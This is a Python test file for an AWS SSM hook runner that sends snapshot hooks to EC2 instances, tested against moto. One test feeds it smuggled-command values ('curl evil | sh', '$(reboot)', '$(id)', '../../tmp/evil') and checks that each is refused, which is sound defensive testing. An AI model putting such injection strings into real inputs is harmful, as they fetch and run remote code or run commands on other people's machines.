"""SsmHookRunner: hooks through SSM Run Command, against moto's SSM.

moto runs no document: its invocations answer Success with empty output at once. Tests set what
an instance would have answered by editing moto's invocation records right after SendCommand
(`on_send_command`), and fake at the botocore level only what moto cannot express
(ListCommandInvocations, SendCommand errors).
"""

from __future__ import annotations

import json
import math
from dataclasses import replace
from typing import Any

import pytest
from moto.ssm.models import ssm_backends

from quiesce.errors import ProviderError
from quiesce.policy.model import Hook, LocalMember
from quiesce.record import HookResult, HookStatus
from quiesce_aws.clients import SessionClients
from quiesce_aws.hooks import (
    MAX_INSTANCES_PER_COMMAND,
    RUN_HOOK_DOCUMENT,
    SsmHookRunner,
    parse_result,
)

from .conftest import (
    ACCOUNT,
    REGION,
    FakeClock,
    Fleet,
    Sleeps,
    Wire,
    answered_by_runner,
    hook_call,
    machine,
    moto_invocations,
    on_send_command,
    quick_backoff,
    runner_result,
)


@pytest.fixture
def ssm(clients: SessionClients) -> Any:
    return clients.ssm(REGION)


class WallClock:
    """Epoch seconds that move on by a millisecond at every reading, like a real clock."""

    def __init__(self) -> None:
        self.readings = 0

    def __call__(self) -> float:
        self.readings += 1
        return 1_800_000_000.0 + (self.readings - 1) / 1000


@pytest.fixture
def runner(clients: SessionClients, clock: FakeClock, sleeps: Sleeps) -> SsmHookRunner:
    return SsmHookRunner(
        clients,
        backoff=quick_backoff(sleeps),
        clock=clock,
        sleep=sleeps,
        wall_clock=WallClock(),
    )


def ok(result: HookResult | BaseException) -> HookResult:
    assert isinstance(result, HookResult), result
    return result


# ------------------------------------------------------------------------------ sending


def test_120_instances_go_out_as_3_send_commands_of_at_most_50_instance_ids(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    ids = fleet.launch(120, data_volumes=0)
    sent = wire.sent(ssm, "SendCommand")
    answered_by_runner(wire, ssm)

    results = runner.run_many([hook_call(machine(i)) for i in ids])

    assert [ok(r).status for r in results] == [HookStatus.SUCCEEDED] * 120
    assert len(sent) == 3
    assert sorted(len(c["InstanceIds"]) for c in sent) == [20, 50, 50]
    assert all(len(c["InstanceIds"]) <= MAX_INSTANCES_PER_COMMAND for c in sent)
    assert sorted(i for c in sent for i in c["InstanceIds"]) == sorted(ids)
    assert all("Targets" not in c for c in sent)
    assert all(c["DocumentName"] == RUN_HOOK_DOCUMENT for c in sent)


def test_calls_with_different_parameters_go_in_separate_commands(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    db1, db2, web = fleet.launch(3, data_volumes=0)
    sent = wire.sent(ssm, "SendCommand")
    answered_by_runner(wire, ssm)

    runner.run_many(
        [
            hook_call(machine(db1, "db")),
            hook_call(machine(db2, "db")),
            hook_call(machine(web, "web")),
        ]
    )

    by_member = {c["Parameters"]["Member"][0]: sorted(c["InstanceIds"]) for c in sent}
    assert by_member == {"db": sorted([db1, db2]), "web": [web]}


def moto_commands() -> list[Any]:
    """The commands moto received, as its SSM backend keeps them (what went over the wire)."""
    commands: list[Any] = ssm_backends[ACCOUNT][REGION]._commands
    return commands


#: What a SendCommand of the run-hook document may carry: names and identifiers, nothing else.
IDENTIFIERS = {"Phase", "RunId", "Member", "Hook", "ExpiresAt", "RestorePath", "ExecutionTimeout"}


def test_a_pre_sends_only_the_runs_identifiers_and_the_declared_hooks_name(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    sent = wire.sent(ssm, "SendCommand")
    answered_by_runner(wire, ssm)
    hook = Hook(
        run=["/etc/quiesce/hooks/pause.sh", "orders", "--flush now", "it's $(reboot)"],
        sha256="a" * 64,
        timeout_seconds=2.5,
        retries=1,
        env={"DB_PASSWORD": "hunter2-secret"},
    )
    thaw = Hook(run=["/etc/quiesce/hooks/resume.sh", "`reboot`"], timeout_seconds=10)

    runner.run(hook_call(machine(instance), "pre", hook=hook, thaw=thaw, max_freeze_seconds=45))

    (command,) = sent
    assert command["InstanceIds"] == [instance]
    assert command["MaxErrors"] == "100%"
    assert command["TimeoutSeconds"] == 30
    expected = {
        "Phase": ["pre"],
        "RunId": ["20261129T100000Z-abc123"],
        "Member": ["db"],
        "Hook": ["orders.db.pre"],
        "ExpiresAt": ["1800000045.000"],
        "ExecutionTimeout": ["60"],
    }
    assert command["Parameters"] == expected
    (received,) = moto_commands()
    assert received.parameters == expected
    assert received.document_name == RUN_HOOK_DOCUMENT
    on_the_wire = json.dumps(command)
    for private in (
        "pause.sh",
        "resume.sh",
        "--flush",
        "reboot",
        "DB_PASSWORD",
        "hunter2",
        "a" * 64,
    ):
        assert private not in on_the_wire, private


def test_the_answer_and_execution_timeouts_still_come_from_the_policys_hook(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire, clock: FakeClock
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    on_send_command(wire, ssm, lambda _c, _i: {"Status": "InProgress", "StatusDetails": "x"})
    hook = Hook(run=["/etc/quiesce/hooks/pause.sh"], timeout_seconds=100, retries=2)
    started = clock.now

    result = runner.run(hook_call(machine(instance), "pre", hook=hook))

    (received,) = moto_commands()
    budget = 100 * 3 + 1.5 * 3 + 20  # timeouts x attempts + per-attempt and fixed slack
    assert received.parameters["ExecutionTimeout"] == [str(math.ceil(budget + 30))]
    assert result.code == "NoAnswer"
    assert clock.now - started == pytest.approx(budget)


def test_a_post_carries_no_expiry_and_a_verify_only_its_restore_path(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    sent = wire.sent(ssm, "SendCommand")
    answered_by_runner(wire, ssm)
    verify = replace(
        hook_call(machine(instance), "verify"), extra_args=("/restore/orders-2026/db",)
    )

    runner.run(hook_call(machine(instance), "post"))
    runner.run(verify)

    post, checked = (c["Parameters"] for c in sent)
    assert set(post) == {"Phase", "RunId", "Member", "Hook", "ExecutionTimeout"}
    assert post["Hook"] == ["orders.db.post"]
    assert checked["Hook"] == ["orders.db.verify"]
    assert checked["RestorePath"] == ["/restore/orders-2026/db"]
    assert all(set(c.parameters) <= IDENTIFIERS for c in moto_commands())


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"member": "x' ; sh -c 'curl evil | sh' ; '"}, "Member"),
        ({"group": "orders' ; /bin/sh -c 'id"}, "Hook"),
        ({"group": "../../tmp/evil"}, "Hook"),
        ({"group": "orders/db"}, "Hook"),
        ({"member": "db\nid"}, "Member"),
        ({"member": "{{ Phase }}"}, "Member"),
        ({"run_id": "r$(reboot)"}, "RunId"),
        ({"phase": "verify", "extra_args": ("/restore/it's here",)}, "RestorePath"),
        ({"phase": "verify", "extra_args": ("/restore/$(id)",)}, "RestorePath"),
        ({"phase": "verify", "extra_args": ("relative/path",)}, "RestorePath"),
        ({"extra_args": ("--anything",)}, "declare the arguments"),
    ],
)
def test_a_hostile_value_is_refused_before_anything_is_sent(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire, change: dict[str, Any], why: str
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    sent = wire.sent(ssm, "SendCommand")
    call = replace(hook_call(machine(instance), "post"), **change)

    result = runner.run(call)

    assert (result.status, result.code) == (HookStatus.REFUSED, "BadParameter")
    assert why in result.message
    assert sent == []
    assert moto_commands() == []


def test_windows_machines_get_no_hooks(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    (instance,) = fleet.launch(1, windows=True, data_volumes=0)
    sent = wire.sent(ssm, "SendCommand")

    result = runner.run(hook_call(machine(instance, os="windows"), "post"))

    assert (result.status, result.code) == (HookStatus.REFUSED, "InvalidPlatform")
    assert sent == []


def test_check_sends_the_check_phase(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    sent = wire.sent(ssm, "SendCommand")
    answered_by_runner(wire, ssm, runner_result(code="Allowed", exit_code=None, attempts=0))

    result = runner.check(hook_call(machine(instance), "pre"))

    assert (result.status, result.code) == (HookStatus.SUCCEEDED, "Allowed")
    assert sent[0]["Parameters"]["Phase"] == ["check"]
    assert sent[0]["Parameters"]["Hook"] == ["orders.db.pre"]
    assert set(sent[0]["Parameters"]) <= IDENTIFIERS


def test_a_checks_declared_digests_are_kept_in_the_result(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    answer = runner_result(
        code="Allowed", exit_code=None, attempts=0, declared="d" * 64, thaw_declared="e" * 64
    )
    answered_by_runner(wire, ssm, answer)

    result = runner.check(hook_call(machine(instance), "pre"))

    assert (result.declared, result.thaw_declared) == ("d" * 64, "e" * 64)


# ------------------------------------------------------------------------------ results


def test_the_runners_json_result_is_parsed_from_the_invocation_output(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    line = runner_result(
        "failed", "ExecutionFailed", exit_code=3, attempts=2, output="cannot reach the db\n"
    )
    answered_by_runner(wire, ssm, "a warning printed first\n" + line)

    result = runner.run(hook_call(machine(instance), "pre"))

    assert result.status is HookStatus.FAILED
    assert result.code == "ExecutionFailed"
    assert result.exit_code == 3
    assert result.attempts == 2
    assert result.output == "cannot reach the db\n"
    assert result == HookResult.model_validate_json(line)


def test_a_watchdog_thaw_reported_by_the_runner_is_kept(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    answered_by_runner(wire, ssm, runner_result(by="watchdog"))

    result = runner.run(hook_call(machine(instance), "post"))

    assert result.by == "watchdog"


def test_a_document_preflight_refusal_is_a_result_too(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    refusal = json.dumps(
        {"status": "refused", "code": "RunnerHashMismatch", "message": "not the pinned runner"}
    )
    answered_by_runner(wire, ssm, refusal)

    result = runner.run(hook_call(machine(instance), "pre"))

    assert (result.status, result.code) == (HookStatus.REFUSED, "RunnerHashMismatch")


def test_an_output_without_a_result_is_a_runner_error(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)  # moto answers Success with no output

    result = runner.run(hook_call(machine(instance), "pre"))

    assert (result.status, result.code) == (HookStatus.FAILED, "RunnerError")
    assert instance in result.message


@pytest.mark.parametrize(
    ("status", "details", "output", "expected"),
    [
        ("Success", "Success", runner_result(), (HookStatus.SUCCEEDED, "Succeeded")),
        (
            "Success",
            "Success",
            runner_result("refused", "HashMismatch"),
            (HookStatus.REFUSED, "HashMismatch"),
        ),
        (
            "Failed",
            "Failed",
            runner_result("refused", "BadRequest"),
            (HookStatus.REFUSED, "BadRequest"),
        ),
        ("Failed", "Failed", "", (HookStatus.FAILED, "ExecutionFailed")),
        ("Cancelled", "Cancelled", "", (HookStatus.FAILED, "Cancelled")),
        ("TimedOut", "Delivery Timed Out", "", (HookStatus.TIMED_OUT, "TimedOut")),
        ("TimedOut", "Execution Timed Out", "", (HookStatus.TIMED_OUT, "TimedOut")),
        ("TimedOut", "TimedOut", "", (HookStatus.TIMED_OUT, "TimedOut")),
        ("Failed", "Undeliverable", "", (HookStatus.FAILED, "Undeliverable")),
        ("Failed", "Terminated", "", (HookStatus.FAILED, "Terminated")),
        ("Failed", "InvalidPlatform", "", (HookStatus.FAILED, "InvalidPlatform")),
        ("Failed", "Invalid Platform", "", (HookStatus.FAILED, "InvalidPlatform")),
        ("Failed", "AccessDenied", "", (HookStatus.REFUSED, "AccessDenied")),
        ("Failed", "Access Denied", "", (HookStatus.REFUSED, "AccessDenied")),
    ],
)
def test_each_final_invocation_status_maps_to_a_hook_result(
    runner: SsmHookRunner,
    ssm: Any,
    fleet: Fleet,
    wire: Wire,
    status: str,
    details: str,
    output: str,
    expected: tuple[HookStatus, str],
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    on_send_command(
        wire,
        ssm,
        lambda _c, _i: {
            "Status": status,
            "StatusDetails": details,
            "StandardOutputContent": output,
            "StandardErrorContent": "something went wrong",
            "ResponseCode": 1,
        },
    )

    result = runner.run(hook_call(machine(instance), "pre"))

    assert (result.status, result.code) == expected
    assert result.ended_at is not None


@pytest.mark.parametrize("status", ["Pending", "InProgress", "Delayed"])
def test_an_invocation_still_in_flight_is_polled_until_it_finishes(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire, sleeps: Sleeps, status: str
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    on_send_command(wire, ssm, lambda _c, _i: {"Status": status, "StatusDetails": status})
    polls: list[str] = []

    def finish_on_third_poll(parsed: dict[str, Any]) -> None:
        polls.append(parsed["Status"])
        if len(polls) == 2:
            for invocation in moto_invocations(parsed["CommandId"]):
                invocation.update(
                    Status="Success", StatusDetails="Success", StandardOutputContent=runner_result()
                )

    wire.after(ssm, "GetCommandInvocation", finish_on_third_poll)

    result = runner.run(hook_call(machine(instance), "pre"))

    assert result.status is HookStatus.SUCCEEDED
    assert polls == [status, status, "Success"]
    assert sleeps.waits == [0.5, 0.75]


@pytest.mark.parametrize("status", ["Pending", "InProgress", "Delayed"])
def test_a_call_without_an_answer_gives_up_at_its_budget_as_no_answer(
    runner: SsmHookRunner,
    ssm: Any,
    fleet: Fleet,
    wire: Wire,
    clock: FakeClock,
    status: str,
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    on_send_command(wire, ssm, lambda _c, _i: {"Status": status, "StatusDetails": status})
    started = clock.now
    hook = Hook(run=["/etc/quiesce/hooks/pause.sh"], timeout_seconds=5, retries=1)

    result = runner.run(hook_call(machine(instance), "pre", hook=hook))

    assert (result.status, result.code) == (HookStatus.TIMED_OUT, "NoAnswer")
    assert instance in result.message
    budget = 5 * 2 + 1.5 * 2 + 20  # timeouts x attempts + per-attempt and fixed slack
    assert clock.now - started == pytest.approx(budget)


def test_a_slow_instance_does_not_hold_up_the_results_of_the_others(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    fast, slow = fleet.launch(2, data_volumes=0)

    def answer(_command: str, invocation: dict[str, Any]) -> dict[str, Any]:
        if invocation["InstanceId"] == slow:
            return {"Status": "InProgress", "StatusDetails": "InProgress"}
        return {"StandardOutputContent": runner_result()}

    on_send_command(wire, ssm, answer)

    results = runner.run_many([hook_call(machine(fast)), hook_call(machine(slow))])

    assert [ok(r).code for r in results] == ["Succeeded", "NoAnswer"]


# ------------------------------------------------------------------------------ following


def test_results_are_followed_with_get_command_invocation_where_the_list_call_is_missing(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    ids = fleet.launch(3, data_volumes=0)
    answered_by_runner(wire, ssm)
    gets = wire.sent(ssm, "GetCommandInvocation")

    runner.run_many([hook_call(machine(i)) for i in ids])

    # moto does not implement ListCommandInvocations: one Get per instance instead.
    assert runner.use_list is False
    assert sorted(g["InstanceId"] for g in gets) == sorted(ids)


def _list_answer(output: str) -> Any:
    """A ListCommandInvocations answer (moto has none) built from moto's own command."""

    def respond(params: dict[str, Any]) -> dict[str, Any]:
        return {
            "CommandInvocations": [
                {
                    "CommandId": params["CommandId"],
                    "InstanceId": invocation["InstanceId"],
                    "Status": "Success",
                    "StatusDetails": "Success",
                    "CommandPlugins": [
                        {
                            "Name": "runHook",
                            "Status": "Success",
                            "ResponseCode": 0,
                            "Output": output[:2500],
                        }
                    ],
                }
                for invocation in moto_invocations(params["CommandId"])
            ]
        }

    return respond


def test_list_command_invocations_follows_each_command_in_one_call_where_available(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    ids = fleet.launch(60, data_volumes=0)
    wire.answer(ssm, "ListCommandInvocations", _list_answer(runner_result() + "\n"))
    lists = wire.sent(ssm, "ListCommandInvocations")
    gets = wire.sent(ssm, "GetCommandInvocation")

    results = runner.run_many([hook_call(machine(i)) for i in ids])

    assert [ok(r).code for r in results] == ["Succeeded"] * 60
    assert len(lists) == 2  # two commands (50 + 10), one call each
    assert all(call["Details"] is True for call in lists)
    assert gets == []


def test_a_list_output_cut_at_2500_characters_is_read_whole_with_get_command_invocation(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    whole = runner_result(output="x" * 4000)
    wire.answer(ssm, "ListCommandInvocations", _list_answer(whole))
    answered_by_runner(wire, ssm, whole)
    gets = wire.sent(ssm, "GetCommandInvocation")

    result = runner.run(hook_call(machine(instance), "pre"))

    assert result.code == "Succeeded"
    assert result.output == "x" * 4000
    assert len(gets) == 1


def test_parse_result_takes_the_last_json_line_and_ignores_stderr() -> None:
    line = runner_result()
    combined = f"noise\n{line}\n\n----------ERROR-------\n{runner_result('failed', 'X')}\n"

    parsed = parse_result(combined)

    assert parsed == HookResult.model_validate_json(line)
    assert parse_result("") is None
    assert parse_result(line[:-20]) is None  # cut: no result, never a guess


# ------------------------------------------------------------------------------ failures


@pytest.mark.parametrize("code", ["ThrottlingException", "RequestLimitExceeded", "TooManyUpdates"])
def test_a_throttled_send_command_is_retried_with_exponential_backoff_and_full_jitter(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire, sleeps: Sleeps, code: str
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    sent = wire.sent(ssm, "SendCommand")
    wire.fail(ssm, "SendCommand", code, times=3)
    answered_by_runner(wire, ssm)

    result = runner.run(hook_call(machine(instance), "pre"))

    assert result.status is HookStatus.SUCCEEDED
    assert len(sent) == 4
    # the jitter draw is 0.5: half of 0.1, 0.2, 0.4 (base 0.1 doubling, cap 1.0)
    assert sleeps.waits[:3] == [0.05, 0.1, 0.2]


def test_throttling_that_never_ends_fails_the_call_with_the_throttling_code(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    wire.fail(ssm, "SendCommand", "ThrottlingException", times=100)

    result = runner.run(hook_call(machine(instance), "pre"))

    assert (result.status, result.code) == (HookStatus.FAILED, "ThrottlingException")
    assert "5 attempts" in result.message


def test_a_throttled_poll_is_retried(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    answered_by_runner(wire, ssm)
    wire.fail(ssm, "GetCommandInvocation", "ThrottlingException", times=2)

    assert runner.run(hook_call(machine(instance), "pre")).status is HookStatus.SUCCEEDED


def test_an_instance_ssm_does_not_manage_does_not_block_the_others(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    ids = fleet.launch(5, data_volumes=0)
    bad = ids[2]
    sent = wire.sent(ssm, "SendCommand")
    wire.fail(
        ssm, "SendCommand", "InvalidInstanceId", times=100, when=lambda p: bad in p["InstanceIds"]
    )
    answered_by_runner(wire, ssm)

    results = runner.run_many([hook_call(machine(i)) for i in ids])

    codes = {i: ok(r).code for i, r in zip(ids, results, strict=True)}
    assert codes.pop(bad) == "Undeliverable"
    assert set(codes.values()) == {"Succeeded"}
    assert [bad] in [c["InstanceIds"] for c in sent]


def test_access_denied_on_send_is_a_refusal(
    runner: SsmHookRunner, ssm: Any, fleet: Fleet, wire: Wire
) -> None:
    (instance,) = fleet.launch(1, data_volumes=0)
    wire.fail(ssm, "SendCommand", "AccessDeniedException")

    result = runner.run(hook_call(machine(instance), "post"))

    assert (result.status, result.code) == (HookStatus.REFUSED, "AccessDenied")
    assert "quiesce:enabled" in result.message


def test_a_member_of_another_provider_is_an_error_not_a_guess(clients: SessionClients) -> None:
    runner = SsmHookRunner(clients)
    local = LocalMember(name="db", provider="local", volumes=["/data"])
    bare = replace(hook_call(machine("i-0123456789abcdef0", region=""), "post"), spec=local)

    (outcome,) = runner.run_many([bare])

    assert isinstance(outcome, ProviderError)
    assert outcome.code == "WrongProvider"
    assert "'local'" in str(outcome)


def test_the_region_comes_from_the_policy_when_the_machine_has_no_attributes(
    clients: SessionClients, fleet: Fleet, wire: Wire
) -> None:
    from quiesce.policy.model import Policy
    from quiesce.ports import Machine

    (instance,) = fleet.launch(1, data_volumes=0)
    policy = Policy.model_validate(
        {
            "version": 1,
            "name": "shop",
            "groups": {
                "orders": {
                    "consistency": "crash",
                    "members": [
                        {
                            "name": "db",
                            "provider": "aws",
                            "region": REGION,
                            "select": {"instance_ids": [instance]},
                        }
                    ],
                }
            },
        }
    )
    runner = SsmHookRunner(clients)
    ssm = clients.ssm(REGION)
    sent = wire.sent(ssm, "SendCommand")
    answered_by_runner(wire, ssm)
    rebuilt = Machine(provider="aws", member="db", machine_id=instance)  # as `recover` has it
    call = replace(hook_call(rebuilt, "post"), spec=policy.groups["orders"].members[0])

    assert runner.run(call).status is HookStatus.SUCCEEDED
    assert [c["InstanceIds"] for c in sent] == [[instance]]
